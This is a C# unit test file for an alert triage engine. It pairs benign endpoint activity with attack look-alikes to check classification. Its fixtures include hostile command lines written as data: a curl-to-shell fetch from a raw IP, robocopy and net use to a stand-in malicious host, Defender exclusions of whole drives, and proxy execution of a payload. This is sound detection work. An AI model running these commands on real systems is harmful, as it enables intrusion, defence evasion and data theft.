using System.Text.Json;
using Verdict.Analysis;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Routine work read from the command itself (Elastic Security, SentinelOne and Defender XDR shapes), each with the
/// attack that looks most like it: the explanation closes the benign case and never the attack.
/// </summary>
public sealed class EndpointRoutineTests
{
    private static Assessment Assess(object input) =>
        FamilyFixtures.Triage([new FamilyFixture("r0", JsonSerializer.Serialize(input), true, "")])[0].Assessment!;

    private static Dictionary<string, object> Elastic(string rule, string severity, string user, string exe, string commandLine, string parentExe, string parentCommandLine) => new Dictionary<string, object>
    {
        ["@timestamp"] = "2026-11-17T10:42:19Z", ["kibana.alert.uuid"] = "c1ac0991", ["kibana.alert.rule.name"] = rule, ["kibana.alert.severity"] = severity,
        ["host"] = new { name = "GX-WS-0044", os = new { family = "windows" } }, ["user"] = new { name = user, domain = "GLOBEX" },
        ["process"] = new
        {
            executable = exe, name = Path.GetFileName(exe.Replace('\\', '/')), command_line = commandLine,
            parent = new { executable = parentExe, name = Path.GetFileName(parentExe.Replace('\\', '/')), command_line = parentCommandLine },
        },
        ["event"] = new { kind = "signal", category = new[] { "process" } },
    };

    private static object SentinelOne(string threatName, string classification, string filePath, string originator, string args, string indicator) => new
    {
        id = "1890000000000628374",
        agentRealtimeInfo = new { agentComputerName = "GX-WS-0107", agentOsName = "Windows 11 Enterprise" },
        agentDetectionInfo = new { agentIpV4 = "10.46.6.16", agentLastLoggedInUserName = "nick.ho" },
        threatInfo = new
        {
            threatId = "1890000000000628374", threatName, classification, confidenceLevel = "suspicious", mitigationStatus = "not_mitigated", filePath,
            originatorProcess = originator, processUser = @"GLOBEX\nick.ho", detectionType = "dynamic", createdAt = "2026-11-16T22:05:13.520Z",
            engines = new[] { "Behavioral AI" }, commandLineArguments = args,
        },
        indicators = new[] { new { category = "General", description = indicator } },
    };

    [Fact]
    public void Whoami_typed_at_a_console_is_closed_but_whoami_from_a_web_server_or_chained_with_domain_recon_is_not()
    {
        var typed = Assess(Elastic("Whoami Process Activity", "low", "lisa.morgan", @"C:\Windows\System32\whoami.exe", "whoami /groups", @"C:\Windows\System32\cmd.exe", @"C:\Windows\system32\cmd.exe"));
        Assert.Equal(Classification.Benign, typed.Classification);
        Assert.Contains(typed.Evidence, e => e.Key == "own_identity_check");

        var webShell = Assess(Elastic("Whoami Process Activity", "low", "iis apppool", @"C:\Windows\System32\whoami.exe", "whoami /groups", @"C:\Windows\System32\cmd.exe", @"cmd.exe /c ""cd /d c:\inetpub\wwwroot & whoami /groups"""));
        Assert.NotEqual(Classification.Benign, webShell.Classification);
        Assert.DoesNotContain(webShell.Evidence, e => e.Key == "own_identity_check");

        var burst = Assess(Elastic("Discovery Commands Burst", "medium", "lisa.morgan", @"C:\Windows\System32\cmd.exe", @"cmd.exe /c ""whoami /all & net group ""Domain Admins"" /domain""",
            @"C:\Windows\System32\cmd.exe", "cmd.exe"));
        Assert.NotEqual(Classification.Benign, burst.Classification);
    }

    [Fact]
    public void A_workbook_mapping_an_own_file_share_is_closed_but_one_mapping_an_internet_webdav_share_or_chaining_a_command_is_not()
    {
        const string excel = @"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";
        var mapping = Assess(Elastic("Microsoft Office Child Process", "medium", "kate.bell", @"C:\Windows\System32\cmd.exe",
            @"C:\Windows\system32\cmd.exe /c net use R: \\fs-syd-02\finance-reporting$ /persistent:no", excel, @"""EXCEL.EXE"" ""\\fs-syd-02\finance$\Month-End.xlsm"""));
        Assert.Equal(Classification.Benign, mapping.Classification);
        Assert.Contains(mapping.Evidence, e => e.Key == "maps_internal_share");

        var webdav = Assess(Elastic("Microsoft Office Child Process", "medium", "kate.bell", @"C:\Windows\System32\cmd.exe",
            @"cmd.exe /c net use R: \\files.evil-cdn.net\dav /persistent:no", excel, @"""EXCEL.EXE"" ""C:\Users\kate.bell\Downloads\invoice.xlsm"""));
        Assert.NotEqual(Classification.Benign, webdav.Classification);

        var chained = Assess(Elastic("Microsoft Office Child Process", "medium", "kate.bell", @"C:\Windows\System32\cmd.exe",
            @"cmd.exe /c net use R: \\fs-syd-02\finance$ & R:\payload.exe", excel, @"""EXCEL.EXE"" ""C:\Users\kate.bell\Downloads\invoice.xlsm"""));
        Assert.NotEqual(Classification.Benign, chained.Classification);
        Assert.DoesNotContain(chained.Evidence, e => e.Key == "maps_internal_share");
    }

    [Fact]
    public void A_squirrel_launcher_starting_its_own_app_is_closed_but_update_exe_starting_another_program_is_not()
    {
        var teams = Assess(SentinelOne("Update.exe", "Malware", @"\Device\HarddiskVolume3\Users\nick.ho\AppData\Local\Microsoft\Teams\Update.exe", "Update.exe",
            "--processStart Teams.exe --process-start-args --system-initiated", "Process executed from a user-writable AppData folder"));
        Assert.Equal(Classification.Benign, teams.Classification);
        Assert.Contains(teams.Evidence, e => e.Key == "squirrel_launcher");

        var lolbas = Assess(SentinelOne("Update.exe", "Malware", @"\Device\HarddiskVolume3\Users\nick.ho\AppData\Local\Microsoft\Teams\Update.exe", "Update.exe",
            "--processStart payload.exe --process-start-args \"C:\\Users\\Public\\a.dll\"", "Process executed from a user-writable AppData folder"));
        Assert.NotEqual(Classification.Benign, lolbas.Classification);
        Assert.DoesNotContain(lolbas.Evidence, e => e.Key == "squirrel_launcher");

        var dropped = Assess(SentinelOne("Update.exe", "Malware", @"\Device\HarddiskVolume3\Users\nick.ho\AppData\Local\Temp\Update.exe", "Update.exe",
            "--processStart Temp.exe", "Process executed from a user-writable AppData folder"));
        Assert.NotEqual(Classification.Benign, dropped.Classification);
    }

    [Fact]
    public void An_admin_excluding_an_installed_products_folders_is_closed_but_excluding_appdata_or_a_drive_is_not()
    {
        const string ps = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        var veeam = Assess(Elastic("Windows Defender Exclusions Added via PowerShell", "medium", "it.admin", ps,
            @"powershell.exe Add-MpPreference -ExclusionPath 'D:\VeeamRepo','C:\Program Files\Veeam\Backup and Replication' -ExclusionProcess 'VeeamAgent.exe'", @"C:\Windows\explorer.exe", "explorer.exe"));
        Assert.Equal(Classification.Benign, veeam.Classification);
        Assert.Contains(veeam.Evidence, e => e.Key == "scoped_exclusion");

        var appdata = Assess(Elastic("Windows Defender Exclusions Added via PowerShell", "medium", "it.admin", ps,
            @"powershell.exe Add-MpPreference -ExclusionPath 'C:\Users\it.admin\AppData\Roaming\svc'", @"C:\Windows\explorer.exe", "explorer.exe"));
        Assert.NotEqual(Classification.Benign, appdata.Classification);

        var drive = Assess(Elastic("Windows Defender Exclusions Added via PowerShell", "medium", "it.admin", ps,
            @"powershell.exe Add-MpPreference -ExclusionPath 'D:\' -ExclusionProcess 'powershell.exe'", @"C:\Windows\explorer.exe", "explorer.exe"));
        Assert.NotEqual(Classification.Benign, drive.Classification);

        var temp = Assess(Elastic("Windows Defender Exclusions Added via PowerShell", "medium", "it.admin", ps,
            @"powershell.exe Add-MpPreference -ExclusionPath 'D:\Temp'", @"C:\Windows\explorer.exe", "explorer.exe"));
        Assert.NotEqual(Classification.Benign, temp.Classification);

        var notAdmin = Assess(Elastic("Windows Defender Exclusions Added via PowerShell", "medium", "amy.cho", ps,
            @"powershell.exe Add-MpPreference -ExclusionPath 'C:\Program Files\Veeam'", @"C:\Windows\explorer.exe", "explorer.exe"));
        Assert.NotEqual(Classification.Benign, notAdmin.Classification);
    }

    [Fact]
    public void A_robocopy_migration_by_a_service_account_is_closed_but_robocopy_to_an_internet_host_or_by_a_user_is_not()
    {
        object Graph(string account, string commandLine) => new
        {
            id = "dadc52080b7474d8a6_-1199999930", severity = "high", title = "Possible ransomware activity", createdDateTime = "2026-11-17T15:40:12.7Z",
            serviceSource = "microsoftDefenderForEndpoint",
            evidence = new object[]
            {
                new Dictionary<string, object> { ["@odata.type"] = "#microsoft.graph.security.deviceEvidence", ["verdict"] = "unknown", ["deviceDnsName"] = "pacs-arch-01.globex.com" },
                new Dictionary<string, object>
                {
                    ["@odata.type"] = "#microsoft.graph.security.processEvidence", ["verdict"] = "unknown", ["processCommandLine"] = commandLine,
                    ["imageFile"] = new { fileName = "Robocopy.exe", filePath = @"C:\Windows\System32\" }, ["userAccount"] = new { accountName = account },
                },
            },
        };
        var migration = Assess(Graph("svc-backup", @"robocopy E:\Archive\2019 \\nas02\archive$\2019 *.dcm /MOV /MT:16 /R:1 /W:1"));
        Assert.Equal(Classification.Benign, migration.Classification);
        Assert.Contains(migration.Evidence, e => e.Key == "bulk_move");

        var outward = Assess(Graph("svc-backup", @"robocopy E:\Archive \\files.evil-cdn.net\drop /MOV /E"));
        Assert.NotEqual(Classification.Benign, outward.Classification);

        var user = Assess(Graph("amy.cho", @"robocopy E:\Archive \\nas02\archive$ /MOV /E"));
        Assert.NotEqual(Classification.Benign, user.Classification);
    }

    [Fact]
    public void A_vendors_documented_install_one_liner_is_closed_but_the_same_one_liner_followed_by_another_fetch_is_not()
    {
        var docker = Assess(Elastic("Linux Curl Piped to Shell", "high", "it.admin", "/usr/bin/bash", "bash -c curl -fsSL https://get.docker.com | sh", "/usr/bin/sudo",
            "sudo bash -c curl -fsSL https://get.docker.com | sh"));
        Assert.Equal(Classification.Benign, docker.Classification);
        Assert.Contains(docker.Evidence, e => e.Key == "official_download" && e.Weight > 1.5);

        var riding = Assess(Elastic("Linux Curl Piped to Shell", "high", "it.admin", "/usr/bin/bash",
            "bash -c curl -fsSL https://get.docker.com | sh; curl -s http://45.148.10.81/k.sh | sh", "/usr/bin/sudo", "sudo bash"));
        Assert.NotEqual(Classification.Benign, riding.Classification);
        Assert.DoesNotContain(riding.Evidence, e => e.Key == "official_download");
    }
}
